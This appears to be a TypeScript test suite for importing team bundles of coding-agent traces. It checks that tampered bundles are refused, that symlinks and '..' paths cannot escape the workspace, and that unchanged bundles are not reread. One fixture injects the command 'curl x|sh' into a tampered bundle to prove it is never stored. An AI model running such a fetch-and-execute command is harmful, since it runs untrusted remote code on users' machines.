import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, realpathSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { loadTeamBundleIndex } from '../../../src/core/store/teamBundleIndex';
import { TraceStore } from '../../../src/core/store/traceStore';
import { importTeamBundles } from '../../../src/core/team/teamImport';
import { writeTamperedCopy, writeTeamBundle } from '../../support/teamBundleFiles';
import { tempDir } from '../../../testing/tmp';

// The bundles of a workspace's .combee/team: each imported on its own, a refused one reported, unchanged ones not read.

async function teamFolder() {
  const root = realpathSync(tempDir('combee-team-import-'));
  const workspace = join(root, 'acme-shop');
  const team = join(workspace, '.combee', 'team');
  mkdirSync(team, { recursive: true });
  await writeTeamBundle(join(team, 'alice.combee-bundle'), 'alice', 2);
  writeTamperedCopy(join(team, 'alice.combee-bundle'), join(team, 'mallory.combee-bundle'), 'cart test 0', 'curl x|sh');
  const store = new TraceStore(join(root, 'store'));
  return { root, workspace, team, store };
}

const statuses = (result: Awaited<ReturnType<typeof importTeamBundles>>) =>
  result.bundles.map((b) => [b.bundle, b.status, b.result?.imported ?? b.why]);

describe('importing the team bundles of a workspace', () => {
  it('imports each bundle; a tampered one is refused, named, and the others still import', async () => {
    const { workspace, store } = await teamFolder();
    const seen: string[] = [];
    const result = await importTeamBundles({
      store,
      workspace,
      entries: ['.combee/team'],
      onBundle: (b) => seen.push(b.bundle),
    });
    assert.deepEqual(statuses(result), [
      ['.combee/team/alice.combee-bundle', 'imported', 2],
      [
        '.combee/team/mallory.combee-bundle',
        'refused',
        'it is tampered or corrupted: checksum mismatch (it changed after it was written)',
      ],
    ]);
    assert.deepEqual(seen, ['.combee/team/alice.combee-bundle', '.combee/team/mallory.combee-bundle']);
    assert.equal(result.imported, 2);
    const traces = await store.listTraces();
    assert.deepEqual(
      traces.map((t) => [t.id, t.contributor, t.cwd]),
      [
        ['claude-code:alice-team-0', 'alice', workspace],
        ['claude-code:alice-team-1', 'alice', workspace],
      ],
    );
    assert.ok(!JSON.stringify(traces).includes('curl x|sh'), 'nothing of the tampered bundle is stored');
  });

  it('reads an unchanged bundle no more (a refused one stays refused), a touched one again', async () => {
    const { workspace, team, store } = await teamFolder();
    const alice = join(team, 'alice.combee-bundle');
    const mtime = new Date('2026-11-20T12:00:00.000Z');
    utimesSync(alice, mtime, mtime);
    await importTeamBundles({ store, workspace, entries: ['.combee/team'] });
    const index = await loadTeamBundleIndex(store);
    assert.deepEqual(Object.keys(index.workspaces[workspace]).sort(), [
      '.combee/team/alice.combee-bundle',
      '.combee/team/mallory.combee-bundle',
    ]);

    // unreadable now, yet unchanged in size and time: not opened
    const bytes = readFileSync(alice);
    writeFileSync(alice, Buffer.alloc(bytes.length));
    utimesSync(alice, mtime, mtime);
    const again = await importTeamBundles({ store, workspace, entries: ['.combee/team'] });
    assert.deepEqual(
      again.bundles.map((b) => [b.status, b.remembered ?? false]),
      [
        ['unchanged', false],
        ['refused', true],
      ],
    );

    writeFileSync(alice, bytes);
    utimesSync(alice, new Date(), new Date());
    const touched = await importTeamBundles({ store, workspace, entries: ['.combee/team'] });
    assert.deepEqual(
      touched.bundles.map((b) => [b.status, b.result?.imported, b.result?.duplicates]),
      [
        ['imported', 0, 2],
        ['refused', undefined, undefined],
      ],
    );
  });

  it('remembers bundles per workspace folder: another checkout reads them itself', async () => {
    const { workspace, store, root } = await teamFolder();
    await importTeamBundles({ store, workspace, entries: ['.combee/team'] });
    const other = join(root, 'other-checkout');
    mkdirSync(join(other, '.combee', 'team'), { recursive: true });
    await writeTeamBundle(join(other, '.combee', 'team', 'alice.combee-bundle'), 'alice', 2);
    const result = await importTeamBundles({ store, workspace: other, entries: ['.combee/team'] });
    assert.deepEqual(statuses(result), [['.combee/team/alice.combee-bundle', 'imported', 0]]);
  });

  it('does not follow a bundle that is a symbolic link out of the workspace, nor a refused entry', async () => {
    const { workspace, team, store, root } = await teamFolder();
    const outside = join(root, 'outside');
    mkdirSync(outside);
    await writeTeamBundle(join(outside, 'eve.combee-bundle'), 'eve', 1);
    symlinkSync(join(outside, 'eve.combee-bundle'), join(team, 'eve.combee-bundle'));
    const result = await importTeamBundles({ store, workspace, entries: ['.combee/team', '../outside'] });
    assert.deepEqual(result.problems, [
      'combee.team.bundles: "../outside" is refused: it climbs out with ".."; it is not read',
      '.combee/team/eve.combee-bundle: it leads outside the workspace folder: not read',
    ]);
    assert.ok(!(await store.listTraces()).some((t) => t.contributor === 'eve'));
  });

  it('a folder that does not exist (the default, in most repositories) is no problem', async () => {
    const { workspace, store } = await teamFolder();
    const result = await importTeamBundles({ store, workspace, entries: ['.combee/none'] });
    assert.deepEqual(result, { bundles: [], problems: [], imported: 0 });
  });
});
